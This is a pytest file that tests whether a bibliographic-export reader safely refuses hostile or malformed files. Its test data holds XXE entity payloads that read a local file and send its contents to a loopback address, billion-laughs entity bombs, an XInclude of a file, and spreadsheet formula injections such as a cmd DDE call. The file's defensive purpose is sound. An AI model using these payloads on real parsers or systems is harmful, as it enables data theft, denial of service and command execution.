"""What a file may hold to hurt its reader: another kind of file, endless lines, entities, formulas, look-alikes.

A refusal is one line that names the file; nothing outside it is read, nothing is left open, and reading ends.
"""

from __future__ import annotations

import gzip
import io
import signal
import sqlite3
import tempfile
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from string import ascii_uppercase

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st

from curation.errors import LivrevError
from curation.model import Citation, SourceRecord
from curation.sources.files import RefusedRecord, Wanted, read_document, read_export
from curation.sources.files.decode import of_bytes
from curation.sources.files.formats import FORMATS

EXPORTS = Path(__file__).parents[1] / "data" / "exports"
AS_FOUND = Wanted()


@dataclass(frozen=True)
class Reading:
    """What a reader made of a file."""

    format: str
    openers: int
    records: tuple[SourceRecord, ...]
    refused: tuple[RefusedRecord, ...]

    @property
    def citations(self) -> list[Citation]:
        return [record.citation for record in self.records]


def read(content: bytes, wanted: Wanted = AS_FOUND) -> Reading:
    """The whole of a file; each of its beginnings led to a record or to a refusal."""
    with read_document(of_bytes(content, "given.txt"), wanted, allow_partial=True) as export:
        found = Reading(export.format, export.openers, tuple(export.records), export.refused)
    assert len(found.records) + sum(not refused.outside for refused in found.refused) == found.openers
    return found


def refusal(content: bytes, wanted: Wanted = AS_FOUND) -> str:
    """What is said of a file that is refused: one line that names it."""
    with pytest.raises(LivrevError) as caught:
        read_document(of_bytes(content, "given.txt"), wanted).close()
    assert "given.txt" in caught.value.message
    assert "\n" not in caught.value.message
    return caught.value.message


# What is no export


def database() -> bytes:
    with closing(sqlite3.connect(":memory:")) as sql:
        sql.execute("CREATE TABLE record (title TEXT)")
        return sql.serialize()


def packed(**parts: bytes) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        for name, content in parts.items():
            file.writestr(name.replace("_", "."), content)
    return archive.getvalue()


RIS = b"TY  - JOUR\nTI  - Perfusion of vertebral marrow\nER  - \n"
LOGIN = (
    b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form>TY  - JOUR</form></body></html>\n"
)
NO_EXPORTS = {
    "empty": (b"", "is empty"),
    "a mark alone": (b"\xef\xbb\xbf", "is empty"),
    "blank": (b" \n\t\n\r\n", "is empty"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\nTY  - JOUR\n", "is a PDF"),
    "old excel": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "save it as .xlsx or CSV"),
    "gzip": (gzip.compress(RIS), "unpack it"),
    "7-zip": (b"7z\xbc\xaf\x27\x1c" + bytes(100), "unpack it"),
    "zip of an export": (packed(export_ris=RIS), "unpack it"),
    "zip of nothing": (packed(), "export it again"),
    "word": (packed(document_xml=b"<w:document/>"), "unpack it"),
    "cut zip": (packed(export_ris=RIS)[:40], "no whole workbook"),
    "sqlite": (database(), "SQLite"),
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "export it again"),
    "tar": (b"export.ris" + bytes(502) + RIS, "NUL"),
    "login page": (LOGIN, "is a web page"),
    "login page with a mark": (b"\xef\xbb\xbf\r\n" + LOGIN, "is a web page"),
    "login page behind a comment": (b"<!-- 2026 -->\n<HTML>\n" + RIS + b"</HTML>", "is a web page"),
    "xhtml": (b'<?xml version="1.0"?>\n' + LOGIN, ""),
    "answer of an interface": (b'{"error": "session expired"}', "not recognised"),
    "letter": (b"Dear colleague,\nplease find the records attached.\n", "not recognised"),
    "nul": (RIS.replace(b"of", b"o\0f"), "NUL"),
}  # fmt: skip


@pytest.mark.parametrize("kind", NO_EXPORTS)
@pytest.mark.parametrize("wanted", ["", "ris", "table", "endnote-xml"])
def test_what_is_no_export_is_refused_whatever_format_is_asked_for(kind: str, wanted: str) -> None:
    content, said = NO_EXPORTS[kind]
    message = refusal(content, Wanted(wanted))
    if said not in ("", "not recognised") and not wanted:
        assert said in message


@pytest.mark.parametrize("asked", [known.name for known in FORMATS])
def test_a_file_of_another_format_than_the_one_asked_for_is_not_taken_for_an_empty_one(asked: str) -> None:
    empty = []
    for path in sorted(EXPORTS.iterdir()):
        try:
            with read_export(path, Wanted(asked)) as export:
                empty += [path.name] if export.openers == 0 else []
        except LivrevError as refused:
            assert path.name in refused.message  # noqa: PT017 - some are taken: rows of a table may be what is asked
    assert empty == []


@pytest.mark.parametrize(
    "content", ["Title,Authors,Year\n", "FN Clarivate\nVR 1.0\nEF\n", "<PubmedArticleSet></PubmedArticleSet>"]
)
def test_a_file_without_any_record_is_refused_and_not_a_search_that_found_nothing(content: str) -> None:
    assert "no record begins in it" in refusal(content.encode())


# Endless lines


LETTERS = (
    "a", '"', "{", "}", "{}", "<", "<a", "<!--", "-->", "<![CDATA[", "&", "&amp;", "\\", "$", "@", "@a{", '""', ",", '","', '" ,',
    " ", "\t", "\r", "-", "(", "(a", ")", "[", "%", "; ", "A. ", "RESULTS: ", "10.1/", "http://", '{\\"u}', "=", "a=", "a={", "1-",
    " and ", "\u2028", "\u00a0", "é", "A B ", "Background ", "\r\r\n", "\n", "\n      ", '\n"', '"\n', "\nER", "\nPMID", "\n<1>",
    "\n%0", "\nPT J", "\nTI  - x", "\nTY  - ", "ab = {x},\n", "<record>", "<record", "</record>", "<i>", "NCT", "PMC", "doi:",
)  # fmt: skip
LONG, VERY_LONG = 60_000, 300_000  # characters


TITLE = "Perfusion of vertebral marrow"


def made(abstract: str, *authors: str) -> dict[str, str]:
    """A record with its title, abstract (may have several lines) and authors (``Family, G.``) in each shape."""

    def wrapped(indent: int) -> str:
        return abstract.replace("\n", "\n" + " " * indent)

    def each(form: str, between: str = "") -> str:
        return between.join(form.format(name) for name in authors)

    xml = abstract.replace("&", "&amp;").replace("<", "&lt;")
    quoted = abstract.replace('"', '""')
    persons = "".join(
        "<Author><LastName>{}</LastName><ForeName>{}</ForeName></Author>".format(*name.split(", "))
        for name in authors
    )
    return {
        "ris": f"TY  - JOUR\nTI  - {TITLE}\n{each('AU  - {}' + chr(10))}AB  - {abstract}\nDO  - 10.5555/x.1\nER  - \n",
        "nbib": f"PMID- 99000001\nTI  - {TITLE}\nAB  - {wrapped(6)}\n{each('FAU - {}' + chr(10))}",
        "enw": f"%0 Journal Article\n%T {TITLE}\n{each('%A {}' + chr(10))}%X {abstract}\n%R 10.5555/x.1\n",
        "wos": f"FN Clarivate\nVR 1.0\nPT J\nAU {each('{}', chr(10) + '   ')}\nTI {TITLE}\nAB {wrapped(3)}\nER\n\nEF\n",
        "ovid": f"<1. >\nUI  - 99000001\nTI  - {TITLE}\n{each('AU  - {}' + chr(10))}AB  - {wrapped(6)}\nYR  - 2024\n",
        "ovid spelt out": f"<1>\nTitle\n  {TITLE}\nAuthors\n  {each('{}', '; ')}\nAbstract\n  {wrapped(2)}\nVolume\n  3\n",
        "bibtex": f"@article{{a,\n title = {{{TITLE}}},\n author = {{{each('{}', ' and ')}}},\n abstract = {{{abstract}}}\n}}\n",
        "pubmed-xml": f"<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>99000001</PMID><Article><ArticleTitle>{TITLE}"
        f"</ArticleTitle><Abstract><AbstractText>{xml}</AbstractText></Abstract><AuthorList>{persons}</AuthorList></Article>"
        "</MedlineCitation></PubmedArticle></PubmedArticleSet>",
        "endnote-xml": f"<xml><records><record><titles><title>{TITLE}</title></titles><contributors><authors>"
        f"{each('<author>{}</author>')}</authors></contributors><abstract>{xml}</abstract></record></records></xml>",
        "table": f'Title,Authors,Year,Journal,DOI,Abstract\n{TITLE},"{each("{}", "; ")}",2024,J,10.5555/x.1,"{quoted}"\n',
    }  # fmt: skip


SHAPES = sorted(made(""))


@contextmanager
def an_end() -> Iterator[None]:
    """What does not end fails instead of keeping everybody waiting; how long it takes is no question here."""

    def never(*_: object) -> None:
        pytest.fail("it does not end")

    before = signal.signal(signal.SIGALRM, never)
    signal.alarm(180)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize(
    "length", [pytest.param(LONG, id="long"), pytest.param(VERY_LONG, id="very long", marks=pytest.mark.soak)]
)
def test_reading_ends_whatever_is_repeated_without_end(shape: str, length: int) -> None:
    for letters in LETTERS:
        content = made(letters * (length // len(letters)), "Hu, Y.")[shape].encode()
        with an_end(), read_document(of_bytes(content, "given.txt"), allow_partial=True) as export:
            assert export.read + len(export.refused) > 0, letters


@pytest.mark.parametrize("letters", [letters for letters in LETTERS if letters.strip()])
def test_a_file_of_nothing_but_one_thing_is_refused_or_read_to_its_end(letters: str) -> None:
    try:
        read_document(of_bytes((letters * (LONG // len(letters))).encode(), "given.txt")).close()
    except LivrevError as refused:
        said = refused.message
    else:
        said = "read"
    assert "\n" not in said


# Very many, very long, very much alike


@pytest.mark.parametrize("shape", SHAPES)
def test_three_hundred_authors_stay_three_hundred(shape: str) -> None:
    families = [f"Family{ascii_uppercase[n % 26]}{ascii_uppercase[n // 26]}".title() for n in range(300)]
    [citation] = read(made("Short.", *(f"{name}, A." for name in families))[shape].encode()).citations
    assert [author.family for author in citation.authors if not author.collective] == families
    assert (citation.title, citation.abstract) == (TITLE, "Short.")


@pytest.mark.parametrize("shape", SHAPES)
def test_two_hundred_kilobytes_of_abstract_stay_whole(shape: str) -> None:
    abstract = " ".join(f"word{n}" for n in range(22_000))
    assert len(abstract) > 200_000
    [citation] = read(made(abstract, "Hu, Y.")[shape].encode()).citations
    assert (citation.title, citation.abstract) == (TITLE, abstract)


BEFORE = "We read the images of forty patients whose spines were scanned in the years before this one and"
BEHIND = "which was what we had expected to see."
# Lines as they stand in real abstracts, and some that only a tester writes.
ALIKE = (
    "TY  - the types of tumour were not known to us at all", "ER  - positive tumours were seen in most of them", "ER", "EF",
    "PI  - the principal investigator", "CT - based planning", "PMID- 12345678 was cited", "PT J", "50 % of patients", "UT WOS:1",
    "@article is no article", "title = {x},", "</record>", "<record>", "<PubmedArticle>", '"A","B",2024,"C","D","E"',
    "a,b,c,d,e,f", '"TITLE","A"', "Results", "Abstract:", "TI Another", '{"livrev":1}', "-", "%",
)  # fmt: skip
BEGINS = ("TY  - JOUR", "ER  - ", "AB  - x", "PMID- 12345678", "<2>", "%0 Book", "%T x", "@article{x,", "DB  - Embase")  # fmt: skip


@pytest.mark.parametrize("shape", SHAPES)
def test_a_line_of_an_abstract_that_looks_like_something_else_stays_in_it(shape: str) -> None:
    for line in ALIKE:
        found = read(made(f"{BEFORE}\n{line}\n{BEHIND}", "Hu, Y.")[shape].encode())
        [citation] = found.citations
        assert (citation.title, found.refused) == (TITLE, ()), line
        expected = f"{BEFORE} {line} {BEHIND}".split()
        bare = [word.strip("{},") for word in expected]  # to LaTeX braces are no letters
        assert (
            citation.abstract.split() == expected or [w.strip(",") for w in citation.abstract.split()] == bare
        )


@pytest.mark.parametrize("shape", SHAPES)
def test_a_line_of_an_abstract_that_does_begin_something_else_loses_nothing(shape: str) -> None:
    for line in BEGINS:
        content = made(f"{BEFORE}\n{line}\n{BEHIND}", "Hu, Y.")[shape].encode()
        found = read(content)
        assert TITLE in [citation.title for citation in found.citations]
        kept = [repr(citation) for citation in found.citations] + [f.raw.decode() for f in found.refused]
        if not all(any(words in one for one in kept) for words in (BEFORE, BEHIND)):
            assert "were read and" in refusal(content), line


# XML


class Visited(BaseHTTPRequestHandler):
    """Notes that somebody came."""

    def do_GET(self) -> None:
        """Any page."""
        VISITS.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Say nothing."""


VISITS: list[str] = []


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """Address of a server on loopback; nobody may ask it for anything."""
    VISITS.clear()
    with HTTPServer(("127.0.0.1", 0), Visited) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/it"
        server.shutdown()
    assert VISITS == []


SECRET = "what stands in another file"  # noqa: S105 - no password, a sign
ROOT = {"pubmed-xml": "PubmedArticleSet", "endnote-xml": "xml"}
XML = {shape: made("See &xxe; there.", "Hu, Y.")[shape].replace("&amp;", "&") for shape in ROOT}
DECLARED: dict[str, Callable[[str, str], str]] = {
    "file": lambda file, _: f'<!ENTITY xxe SYSTEM "{file}">',
    "address": lambda _, url: f'<!ENTITY xxe SYSTEM "{url}">',
    "public": lambda _, url: f'<!ENTITY xxe PUBLIC "-//X//Y" "{url}">',
    "parameter": lambda _, url: f'<!ENTITY % more SYSTEM "{url}">%more;',
    "parameter of a parameter": lambda file, url: f'<!ENTITY % a SYSTEM "{file}"><!ENTITY % b "<!ENTITY xxe SYSTEM \'{url}?%a;\'>">%b;',
    "bomb": lambda *_: '<!ENTITY a0 "haha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + '<!ENTITY xxe "&a9;">',
    "long entity": lambda *_: f'<!ENTITY xxe "{"ha" * 50_000}">',
    "one of its own": lambda *_: '<!ENTITY xxe "that">',
    "small letters": lambda *_: '<!entity xxe "that">',
}  # fmt: skip


@pytest.mark.parametrize("shape", XML)
@pytest.mark.parametrize("kind", DECLARED)
@pytest.mark.parametrize(
    "way", ["plain", "behind a comment", "far behind", "UTF-16", "with a mark", "standalone"]
)
def test_xml_that_declares_entities_is_refused_and_nothing_else_is_read(
    shape: str, kind: str, way: str, tmp_path: Path, elsewhere: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    doctype = f"<!DOCTYPE {ROOT[shape]} [{DECLARED[kind](secret.as_uri(), elsewhere)}]>"
    before = {"behind a comment": "<!-- of\nsomebody -->", "far behind": f"<!--{' ' * 100_000}-->"}.get(
        way, ""
    )
    standalone = ' standalone="yes"' if way == "standalone" else ""
    encoding = "UTF-16" if way == "UTF-16" else "UTF-8"
    text = f'<?xml version="1.0" encoding="{encoding}"{standalone}?>\n{before}{doctype}\n{XML[shape]}'
    message = refusal(text.encode("utf-8-sig" if way == "with a mark" else encoding), Wanted(shape))
    assert SECRET not in message
    assert "haha" not in message
    if way != "far behind":
        assert "entities" in refusal(text.encode(encoding))


@pytest.mark.parametrize("shape", XML)
def test_an_entity_that_nobody_declares_stays_as_it_is_written_or_is_told(shape: str) -> None:
    found = read(XML[shape].encode())
    assert [c.abstract for c in found.citations] == ["See &xxe; there."] or "entity" in found.refused[
        0
    ].reason


@pytest.mark.parametrize("shape", XML)
def test_an_outer_document_type_and_an_inclusion_are_not_fetched(
    shape: str, tmp_path: Path, elsewhere: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
    )
    content = f'<?xml version="1.0"?><!DOCTYPE {ROOT[shape]} SYSTEM "{elsewhere}">' + XML[shape].replace(
        "&xxe;", include
    )
    found = read(content.encode())
    assert len(found.records) == 1
    assert SECRET not in repr(found)


@pytest.mark.parametrize("shape", XML)
@pytest.mark.parametrize("depth", [200, 100_000])
def test_elements_within_elements_without_end_are_no_trace(shape: str, depth: int) -> None:
    found = read(XML[shape].replace("&xxe;", "<i>" * depth + "deep" + "</i>" * depth).encode())
    assert found.openers == 1


# Workbooks


BOMB = b'<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]>'


def workbook(*rows: tuple[str | int, ...]) -> bytes:
    """A workbook with shared strings; what begins with = is a formula."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate((("Title", "Authors", "Year", "Journal", "DOI"), *rows)):
            sheet.write_row(number, 0, row)
    return stream.getvalue()


def changed(archive: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with one of its parts changed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(stream, "w") as new:
        for part in old.namelist():
            new.writestr(part, change(old.read(part)) if part == name else old.read(part))
    return stream.getvalue()


def with_bomb(part: bytes, before: bytes = b"", encoding: str = "UTF-8") -> bytes:
    body = part.partition(b"?>")[2] if part.startswith(b"<?xml") else part
    used = body.replace(b"Plain", b"&b;")
    head = f'<?xml version="1.0" encoding="{encoding}"?>'.encode()
    return (head + before + BOMB + used).decode().encode(encoding)


@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "[Content_Types].xml"]
)
@pytest.mark.parametrize(
    "bomb",
    [
        pytest.param(with_bomb, id="plain"),
        pytest.param(lambda part: with_bomb(part, b"<!--" + b"x" * 100_000 + b"-->"), id="far behind"),
        pytest.param(lambda part: with_bomb(part, encoding="UTF-16"), id="UTF-16"),
    ],
)
def test_a_workbook_that_declares_entities_is_refused(part: str, bomb: Callable[[bytes], bytes]) -> None:
    book = workbook(("Plain", "Hu, Y.", 2024, "Plain", "10.5555/x.1"))
    assert "entities" in refusal(changed(book, part, bomb))


def test_formulas_of_a_workbook_are_text() -> None:
    book = workbook(
        ('=HYPERLINK("http://127.0.0.1/"&A1)', "Hu, Y.", 2024, "=1+1", "10.5555/x.1"),
        ("=cmd|' /C calc'!A0", "Hu, Y.", "=2000+24", "J", "10.5555/x.2"),
    )
    first, second = read(book).citations
    assert (first.title, first.journal) == ('=HYPERLINK("http://127.0.0.1/"&A1)', "=1+1")
    assert second.title == "=cmd|' /C calc'!A0"
    assert "=2000+24" in repr(second.extra)


@pytest.mark.parametrize("cut", [1, 10, 100, 1000, 3000])
def test_a_workbook_cut_off_is_refused(cut: int) -> None:
    assert "no whole workbook" in refusal(workbook(("A title", "Hu, Y.", 2024, "J", "10.5555/x.1"))[:-cut])


@settings(max_examples=60, deadline=None)
@given(st.integers(0, 1 << 20), st.binary(min_size=1, max_size=3))
def test_a_damaged_workbook_is_no_trace(place: int, new: bytes) -> None:
    book = workbook(("A title", "Hu, Y.", 2024, "J", "10.5555/x.1"))
    at = place % len(book)
    damaged = book[:at] + new + book[at + len(new) :]
    try:
        read_document(of_bytes(damaged, "given.xlsx"), allow_partial=True).close()
    except LivrevError as refused:
        said = refused.message
    else:
        said = "read"
    assert "\n" not in said


# Nothing is left behind


def open_files() -> int:
    return sum(1 for _ in Path("/proc/self/fd").iterdir())


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="only Linux tells which files are open")
def test_no_file_is_left_open_or_on_disk_whatever_became_of_the_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))
    (tmp_path / "temporary").mkdir()
    given = tmp_path / "given.txt"
    contents = [content for content, _ in NO_EXPORTS.values()] + [
        text.encode() for text in made("Short.", "Hu, Y.").values()
    ]
    contents += [path.read_bytes()[:-20] for path in EXPORTS.iterdir()]
    contents += [
        b"TI  - Lost\nER  - \n" + RIS,
        BOMB + XML["endnote-xml"].encode(),
        workbook(("A", "B", 2024, "C", "D")),
    ]
    before = open_files()
    for content in contents:
        given.write_bytes(content)
        try:
            with read_export(given) as export:
                sum(1 for _ in export.records)
        except LivrevError:
            given.write_bytes(b"")
        assert open_files() == before, content[:60]
    assert list((tmp_path / "temporary").iterdir()) == []
